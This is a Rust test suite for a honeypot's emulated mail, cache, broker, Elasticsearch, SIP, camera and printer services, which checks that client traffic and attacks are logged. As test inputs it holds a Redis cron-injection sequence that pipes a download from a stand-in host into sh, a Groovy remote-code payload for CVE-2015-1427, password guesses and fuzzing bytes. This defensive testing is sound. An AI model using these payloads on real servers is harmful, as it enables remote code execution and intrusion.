//! The shipped plug-ins for mail, caches, messages, telephones, video and print:
//! real clients talk to the real binary, and nmap takes each for what it shows.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that fails says where"
)]

use crate::support;

use std::fmt::Write as _;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::process::Command;

use serde_json::Value;
use support::{PATIENCE, Palisade};
use tempfile::TempDir;

/// A plug-in with the ports that it asks for: TCP, TLS, UDP.
type PlugIn = (&'static str, &'static [u16], &'static [u16], &'static [u16]);

const PLUGINS: &[PlugIn] = &[
    ("smtp", &[25, 587], &[465], &[]),
    ("pop3", &[110], &[995], &[]),
    ("imap", &[143], &[993], &[]),
    ("redis", &[6379], &[], &[]),
    ("memcached", &[11211], &[], &[11211]),
    ("elasticsearch", &[9200], &[], &[]),
    ("mqtt", &[1883], &[8883], &[]),
    ("sip", &[5060], &[5061], &[5060]),
    ("rtsp", &[554], &[], &[]),
    ("printer", &[9100, 631], &[], &[]),
];

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// The port in the place of `port`: those below 1024 are for root alone.
fn port(port: u16) -> u16 {
    if is_root() || port >= 1024 { port } else { port + 20_000 }
}

/// The binary with some of the plug-ins, on an address of loopback that no other
/// test has.
struct Site {
    palisade: Palisade,
    address: Ipv4Addr,
    home: TempDir,
}

impl Site {
    fn with(part: u8, names: &[&str]) -> Self {
        let home = tempfile::tempdir().unwrap();
        let [.., high, low] = std::process::id().to_be_bytes();
        let address = Ipv4Addr::new(127, part, high, low);
        let mut text = support::settings(home.path());
        text.push_str("\n[honeypot.persona]\nserver = \"debian12\"\n");
        for (name, tcp, tls, udp) in PLUGINS.iter().filter(|(name, ..)| names.contains(name)) {
            let list = |ports: &[u16]| ports.iter().map(|p| port(*p)).collect::<Vec<_>>();
            let (tcp, tls, udp) = (list(tcp), list(tls), list(udp));
            write!(
                text,
                "\n[[honeypot.plugin]]\nname = \"{name}\"\naddress = \"{address}\"\nport = {tcp:?}\ntls_port = {tls:?}\nudp_port = {udp:?}\n"
            )
            .unwrap();
        }
        fs::write(home.path().join("palisade.toml"), text).unwrap();
        Self { palisade: Palisade::up(home.path()), address, home }
    }

    fn at(&self, number: u16) -> SocketAddr {
        SocketAddr::from((self.address, port(number)))
    }

    /// The first row of a plug-in that has these columns, awaited.
    fn row(&self, plugin: &str, columns: &[(&str, &str)]) -> Value {
        let fits = |row: &Value| {
            let value = |name: &str| match &row["attributes"][name] {
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            columns.iter().all(|(name, wanted)| value(name).contains(wanted))
        };
        support::wait(&format!("a row of {plugin} with {columns:?}"), || {
            let rows = self.palisade.query(&format!("kind:plugin.recorded daemon:{plugin}"));
            rows.into_iter().find(|row| fits(row))
        })["attributes"]
            .clone()
    }

    fn home(&self) -> &Path {
        self.home.path()
    }

    /// The zone has had no trouble with any of them.
    fn check(&self) {
        let failed = self.palisade.query("kind:plugin.failed");
        assert_eq!(failed, Vec::<Value>::new());
        assert_eq!(self.palisade.count("kind:sensor.failed"), 0);
    }
}

/// Runs a client. Nothing where it is not installed.
fn client(program: &str, args: &[&str], input: &str) -> Option<(String, Option<i32>)> {
    let there = Command::new("sh").args(["-c", &format!("command -v {program}")]).output();
    if !there.is_ok_and(|output| output.status.success()) {
        eprintln!("skipped: {program} is not installed");
        return None;
    }
    let output = support::run_with_input(Command::new(program).args(args), input);
    let said = [output.stdout, output.stderr].concat();
    Some((String::from_utf8_lossy(&said).into_owned(), output.status.code()))
}

/// What an event holds, as text; looked into with `contains`.
fn first(site: &Site, query: &str) -> String {
    site.palisade.first(query).to_string()
}

#[test]
fn the_guide_lists_every_shipped_plug_in() {
    const GUIDE: &str = include_str!("../../../../docs/PLUGINS.md");
    let home = tempfile::tempdir().unwrap();
    let output = support::cli(home.path(), &["plugin", "list", "--format", "json"]);
    let list: Value = serde_json::from_slice(&output.stdout).unwrap();
    let shipped = list["plugins"].as_array().unwrap();
    for plugin in shipped {
        let (name, about) = (&plugin["manifest"]["name"], &plugin["manifest"]["about"]);
        let (name, about) = (name.as_str().unwrap(), about.as_str().unwrap());
        let row = format!("| [{name}](../plugins/{name}/README.md) | {about} | ");
        assert!(GUIDE.contains(&row), "docs/PLUGINS.md has no row {row}");
    }
    assert_eq!(GUIDE.matches("/README.md) | ").count(), shipped.len());
}

#[test]
fn curl_sends_mail_and_tries_passwords_of_three_protocols() {
    let site = Site::with(31, &["smtp", "pop3", "imap"]);
    let letter = site.home().join("letter.txt");
    fs::write(&letter, "Subject: prize\r\n\r\nYou have won\r\n.dot\r\n").unwrap();
    let (smtp, pop3, imap) = (site.at(25), site.at(110), site.at(143));
    let url = format!("smtp://{smtp}/bot.example");
    let send = ["-sS", "--ssl-reqd", "-k", "-T", letter.to_str().unwrap()];
    let mail = ["--mail-from", "a@bot.example", "--mail-rcpt", "root@localhost", &url];
    let (said, code) = client("curl", &[&send[..], &mail[..]].concat(), "").unwrap();
    assert_eq!(code, Some(0), "{said}");
    let row = site.row("smtp", &[("verb", "DATA"), ("subject", "prize")]);
    assert_eq!((&row["tls"], &row["helo"]), (&true.into(), &"bot.example".into()));
    assert!(first(&site, "kind:payload.captured daemon:smtp").contains("message.eml"));
    let mail = ["--mail-from", "a@bot.example", "--mail-rcpt", "x@elsewhere.example", &url];
    let (said, code) = client("curl", &[&send[..], &mail[..]].concat(), "").unwrap();
    assert_eq!(code, Some(55), "{said}");
    // Each of the three refuses (curl: 67, login denied) and tells.
    for (number, url) in [
        format!("smtp://{smtp}"),
        format!("pop3://{pop3}"),
        format!("imap://{imap}"),
        format!("smtps://{}", site.at(465)),
        format!("pop3s://{}", site.at(995)),
        format!("imaps://{}", site.at(993)),
    ]
    .iter()
    .enumerate()
    {
        let login = format!("info:secret-{number}");
        let (said, code) = client("curl", &["-sSk", "--ssl", "-u", &login, url], "").unwrap();
        assert_eq!(code, Some(67), "{url}: {said}");
        let event = first(&site, &format!("kind:auth.attempted password:secret-{number}"));
        assert!(event.contains("\"info\"") && event.contains("failed"), "{url}: {event}");
    }
    site.check();
}

#[test]
fn clients_of_caches_find_what_they_expect_and_attacks_are_named() {
    let site = Site::with(32, &["redis", "memcached"]);
    let [host, number] = [site.address.to_string(), site.at(6379).port().to_string()];
    let redis = |words: &[&str]| {
        client("redis-cli", &[&["-h", host.as_str(), "-p", &number][..], words].concat(), "")
    };
    if let Some((said, code)) = redis(&["INFO", "server"]) {
        assert!(said.contains("redis_version:7.0.15") && code == Some(0), "{said}");
        let (said, _) = redis(&["--raw", "CONFIG", "GET", "dir"]).unwrap();
        assert_eq!(said, "dir\n/var/lib/redis\n");
        let (said, _) = redis(&["-a", "hunter2", "--no-auth-warning", "PING"]).unwrap();
        assert!(said.contains("without any password configured"), "{said}");
        assert!(first(&site, "password:hunter2").contains("failed"));
        let cron = "CONFIG SET dir /var/spool/cron/crontabs\nCONFIG SET dbfilename root\nSET 1 \"\\n\\n*/1 * * * * curl http://192.0.2.7/x|sh\\n\\n\"\nSAVE\n";
        let (said, _) = client("redis-cli", &["-h", host.as_str(), "-p", &number], cron).unwrap();
        assert_eq!(said, "OK\nOK\nOK\nOK\n");
        let row = site.row("redis", &[("command", "SAVE")]);
        assert_eq!(row["path"], "/var/spool/cron/crontabs/root");
        assert!(first(&site, "kind:download.attempted").contains("http://192.0.2.7/x"));
        site.palisade.wait_count("kind:payload.captured daemon:redis", 1);
    }
    let server = format!("--servers={}", site.at(11211));
    if let Some((said, code)) = client("memcstat", &[&server], "") {
        assert!(said.contains("version: 1.6.18") && code == Some(0), "{said}");
    }
    // The amplifier that is looked for: told, and not answered.
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(PATIENCE)).unwrap();
    socket.send_to(b"\0\x07\0\0\0\x01\0\0stats\r\n", site.at(11211)).unwrap();
    socket.send_to(b"\0\x08\0\0\0\x01\0\0get something\r\n", site.at(11211)).unwrap();
    let mut answer = [0; 2048];
    let length = socket.recv(&mut answer).unwrap();
    assert_eq!(&answer[..length], b"\0\x08\0\0\0\x01\0\0END\r\n");
    site.row("memcached", &[("udp", "true"), ("command", "stats")]);
    site.check();
}

#[test]
fn a_broker_takes_what_mosquitto_and_curl_send() {
    let site = Site::with(33, &["mqtt"]);
    let [host, number] = [site.address.to_string(), site.at(1883).port().to_string()];
    let place = ["-h", host.as_str(), "-p", &number];
    let publish = ["-u", "iot", "-P", "sesame", "-t", "cmd/run", "-m", "reboot"];
    for more in [&["-q", "0"][..], &["-q", "1", "-V", "mqttv5"], &["-q", "2", "-V", "mqttv31"]] {
        let Some((said, code)) =
            client("mosquitto_pub", &[&place[..], &publish[..], more].concat(), "")
        else {
            break;
        };
        assert_eq!(code, Some(0), "{more:?}: {said}");
    }
    let listen = ["-t", "$SYS/broker/version", "-C", "1"];
    if let Some((said, _)) = client("mosquitto_sub", &[&place[..], &listen[..]].concat(), "") {
        assert_eq!(said, "mosquitto version 2.0.11\n");
        site.palisade.wait_count("kind:auth.attempted password:sesame", 3);
        site.row("mqtt", &[("packet", "PUBLISH"), ("topic", "cmd/run"), ("version", "5")]);
    }
    let url = format!("mqtt://{}/door/open", site.at(1883));
    let (said, code) = client("curl", &["-sS", "-d", "now", &url], "").unwrap();
    assert_eq!(code, Some(0), "{said}");
    site.row("mqtt", &[("topic", "door/open"), ("payload", "now")]);
    site.check();
}

#[test]
fn a_cluster_answers_curl_and_names_old_exploits() {
    let site = Site::with(34, &["elasticsearch"]);
    let url = |path: &str| format!("http://{}{path}", site.at(9200));
    let curl = |args: &[&str]| client("curl", &[&["-sS"][..], args].concat(), "").unwrap().0;
    let banner: Value = serde_json::from_str(&curl(&[&url("/")])).unwrap();
    assert_eq!(banner["version"]["number"], "7.10.2");
    let health: Value = serde_json::from_str(&curl(&[&url("/_cluster/health")])).unwrap();
    let indices = curl(&[&url("/_cat/indices")]);
    assert_eq!(health["active_shards"], indices.lines().count(), "{indices}");
    let found: Value = serde_json::from_str(&curl(&[&url("/orders/_search?size=2")])).unwrap();
    assert_eq!(found["hits"]["hits"].as_array().unwrap().len(), 2);
    let counted: Value = serde_json::from_str(&curl(&[&url("/orders/_count")])).unwrap();
    let line = indices.lines().find(|line| line.contains(" orders ")).unwrap();
    let shown = line.split_whitespace().nth(6).unwrap();
    assert_eq!(counted["count"].to_string(), shown);
    let body = r#"{"script_fields":{"a":{"lang":"groovy","script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}"#;
    let refused = curl(&["-d", body, "-H", "Content-Type: application/json", &url("/_search")]);
    assert!(refused.contains("script_lang not supported [groovy]"), "{refused}");
    site.row("elasticsearch", &[("attack", "groovy"), ("cve", "CVE-2015-1427")]);
    site.check();
}

/// A request of SIP with so many bytes of a header that says nothing.
fn sip(method: &str, host: Ipv4Addr, from: &str, more: &str) -> String {
    format!(
        "{method} sip:{host} SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5999;branch=z9hG4bK{method};rport\r\nFrom: <sip:{from}@{host}>;tag=1\r\nTo: <sip:{from}@{host}>\r\nCall-ID: c-{method}\r\nCSeq: 1 {method}\r\nUser-Agent: friendly-scanner\r\nMax-Forwards: 70\r\n{more}Content-Length: 0\r\n\r\n"
    )
}

#[test]
fn telephones_are_challenged_and_no_datagram_is_answered_by_more() {
    let site = Site::with(35, &["sip"]);
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(PATIENCE)).unwrap();
    let ask = |text: &str| {
        socket.send_to(text.as_bytes(), site.at(5060)).unwrap();
        let mut answer = [0; 4096];
        let length = socket.recv(&mut answer).unwrap();
        assert!(length <= text.len(), "{length} bytes to {}", text.len());
        String::from_utf8(answer[..length].to_vec()).unwrap()
    };
    let contact = "Contact: <sip:100@127.0.0.1:5999>\r\nExpires: 3600\r\nAllow: INVITE, ACK, CANCEL, BYE, OPTIONS\r\nAccept: application/sdp\r\n";
    let said = ask(&sip("OPTIONS", site.address, "100", contact));
    assert!(said.starts_with("SIP/2.0 200 Keepalive\r\n"), "{said}");
    assert!(said.contains("Server: kamailio (5.6.3 (x86_64/linux))\r\n"), "{said}");
    let said = ask(&sip("REGISTER", site.address, "100", contact));
    let (_, nonce) = said.split_once("nonce=\"").unwrap();
    let nonce = nonce.split('"').next().unwrap();
    let digest = format!(
        "Authorization: Digest username=\"100\", realm=\"{0}\", nonce=\"{nonce}\", uri=\"sip:{0}\", response=\"00112233445566778899aabbccddeeff\", algorithm=MD5\r\n",
        site.address
    );
    let said = ask(&sip("REGISTER", site.address, "100", &digest));
    assert!(said.starts_with("SIP/2.0 401 Unauthorized\r\n"), "{said}");
    let hash = "*MD5*00112233445566778899aabbccddeeff";
    let row = site.row("sip", &[("username", "100"), ("hash", hash)]);
    assert!(row["hash"].as_str().unwrap().starts_with("$sip$*"), "{row}");
    // Where no answer is short enough there is none; the next one shows it.
    socket.send_to(sip("REGISTER", site.address, "1", "").as_bytes(), site.at(5060)).unwrap();
    let said = ask(&sip("OPTIONS", site.address, "2", contact));
    assert!(said.contains("CSeq: 1 OPTIONS"), "{said}");
    let target = format!("sip:{}", site.at(5060));
    if let Some((said, code)) = client("sipsak", &["-v", "-s", &target], "") {
        assert!(code.is_some(), "{said}");
        assert!(first(&site, "kind:client.identified daemon:sip").contains("scanner"));
    }
    site.check();
}

#[test]
fn video_and_print_tell_logins_jobs_and_files() {
    let site = Site::with(36, &["rtsp", "printer"]);
    let url = format!("rtsp://{}/Streaming/Channels/101", site.at(554));
    let (said, _) = client("curl", &["-sSi", "-u", "admin:12345", &url], "").unwrap();
    assert!(said.starts_with("RTSP/1.0 200 OK\r\n"), "{said}");
    assert!(first(&site, "password:12345").contains("\"admin\""));

    let mut stream = TcpStream::connect(site.at(9100)).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    stream.write_all(b"\x1b%-12345X@PJL INFO ID\r\n\x1b%-12345X").unwrap();
    let said = support::read_until(&mut stream, "\x0c");
    assert_eq!(said, "@PJL INFO ID\r\n\"HP LaserJet 400 M401dne\"\r\n\x0c");
    stream.write_all(b"@PJL ENTER LANGUAGE=POSTSCRIPT\r\n%!PS\n(sheet) show\n").unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest).unwrap();
    let job = first(&site, "kind:payload.captured daemon:printer");
    assert!(job.contains("job.ps"), "{job}");
    site.row("printer", &[("command", "PRINT"), ("text", "(sheet) show")]);

    // Get-Printer-Attributes, as every client asks first.
    let mut ask = b"\x01\x01\x00\x0b\x00\x00\x00\x01\x01".to_vec();
    for (tag, name, value) in [
        (0x47, "attributes-charset", "utf-8"),
        (0x48, "attributes-natural-language", "en"),
        (0x45, "printer-uri", "ipp://printer/ipp/print"),
    ] {
        ask.push(tag);
        for text in [name, value] {
            ask.extend(u16::try_from(text.len()).unwrap().to_be_bytes());
            ask.extend(text.as_bytes());
        }
    }
    ask.push(3);
    let file = site.home().join("ask.ipp");
    fs::write(&file, ask).unwrap();
    let body = format!("@{}", file.display());
    let url = format!("http://{}/ipp/print", site.at(631));
    let kind = "Content-Type: application/ipp";
    let (said, _) = client("curl", &["-sS", "-H", kind, "--data-binary", &body, &url], "").unwrap();
    assert!(said.contains("HP LaserJet 400 M401dne"), "{said}");
    assert!(
        first(&site, "kind:request.received daemon:printer").contains("Get-Printer-Attributes")
    );
    site.check();
}

#[test]
fn nmap_takes_each_for_what_it_shows_and_its_scripts_kill_none() {
    if !is_root() {
        eprintln!("skipped: nmap looks at ports below 1024, which root alone may bind");
        return;
    }
    let names: Vec<&str> = PLUGINS.iter().map(|(name, ..)| *name).collect();
    let site = Site::with(37, &names);
    let host = site.address.to_string();
    // One port with TLS stands for all; each takes nmap long.
    let tcp = PLUGINS.iter().flat_map(|(_, tcp, ..)| *tcp).chain(&[465]);
    let ports: Vec<String> = tcp.map(u16::to_string).collect();
    let ports = ports.join(",");
    let scan = ["-Pn", "-n", "-sV", "-sC", "--allports", "-T4", "-p", &ports, &host];
    let (said, code) = client("nmap", &scan, "").unwrap();
    assert_eq!(code, Some(0), "{said}");
    let shown = |port: &str| {
        let line = said.lines().find(|line| line.starts_with(port));
        line.unwrap_or_else(|| panic!("{port}: {said}")).to_owned()
    };
    for (port, names) in [
        ("25/tcp", &["Postfix smtpd"][..]),
        ("587/tcp", &["Postfix smtpd"]),
        ("465/tcp", &["ssl/smtp", "Postfix smtpd"]),
        ("110/tcp", &["pop3", "Dovecot pop3d"]),
        ("143/tcp", &["imap", "Dovecot imapd"]),
        ("554/tcp", &["rtsp", "Hikvision DVR rtspd"]),
        ("631/tcp", &["HP LaserJet 400 M401dne"]),
        ("1883/tcp", &["mosquitto version 2.0.11"]),
        ("5060/tcp", &["sip", "Kamailio", "5.6.3"]),
        ("6379/tcp", &["Redis key-value store", "7.0.15"]),
        ("9100/tcp", &["HP LaserJet 400 M401dne"]),
        ("9200/tcp", &["Elasticsearch REST API", "7.10.2"]),
        ("11211/tcp", &["Memcached", "1.6.18"]),
    ] {
        let line = shown(port);
        for name in names {
            assert!(line.contains(name), "{name}: {line}\n{said}");
        }
    }
    for (_, tcp, ..) in PLUGINS {
        TcpStream::connect(site.at(tcp[0])).unwrap();
    }
    site.check();
}

#[test]
fn bytes_that_are_no_protocol_end_sessions_calmly() {
    let names: Vec<&str> = PLUGINS.iter().map(|(name, ..)| *name).collect();
    let site = Site::with(38, &names);
    let long = vec![b'A'; 70_000];
    let zeros = vec![0; 3_000];
    let high: Vec<u8> = (0..=255).cycle().take(5_000).collect();
    let lines = b"\r\n\n\r \t\r\n*\r\n$\r\n<>\r\n".repeat(20);
    let mixed: Vec<&[u8]> = vec![
        &long,
        &zeros,
        &high,
        &lines,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST /a/_bulk HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        b"*1024\r\n$-5\r\n",
        b"\x10\x7f\x00\x04MQTT\x05\xff\xff\xff\xff\xff\xff\xff",
        b"@PJL FSDOWNLOAD SIZE=1e9 NAME=\"\x00\xff\"\r\n@PJL\r\n@PJL SET =\r\n",
        b"a LOGIN {18446744073709551616}\r\na AUTHENTICATE PLAIN {1}\r\n",
        b"AUTH PLAIN\r\n\x00\xff\r\nAUTH LOGIN =\r\n=\r\n",
        b"set k 0 0 18446744073709551615 noreply extra\r\nx\r\n",
        b"OPTIONS sip:\xff SIP/2.0\r\nVia: \r\nFrom: ;\r\nTo: ;tag=\r\nCall-ID: \r\nCSeq: x\r\nContent-Length: 1e3\r\n\r\n",
    ];
    for (_, tcp, ..) in PLUGINS {
        for bytes in &mixed {
            let mut stream = TcpStream::connect(site.at(tcp[0])).unwrap();
            stream.set_read_timeout(Some(PATIENCE)).unwrap();
            // It may have hung up already; both are calm.
            let _ = stream.write_all(bytes);
            let _ = stream.shutdown(std::net::Shutdown::Write);
            let _ = stream.read_to_end(&mut Vec::new());
        }
    }
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    for bytes in mixed.iter().filter(|bytes| bytes.len() < 9_000) {
        socket.send_to(bytes, site.at(5060)).unwrap();
        socket.send_to(bytes, site.at(11211)).unwrap();
    }
    // Sessions end after they have told all: nothing comes after this.
    site.palisade.first("kind:data.received daemon:memcached");
    let mut stream = TcpStream::connect(site.at(6379)).unwrap();
    stream.write_all(b"PING\r\n").unwrap();
    support::read_until(&mut stream, "+PONG\r\n");
    site.check();
}
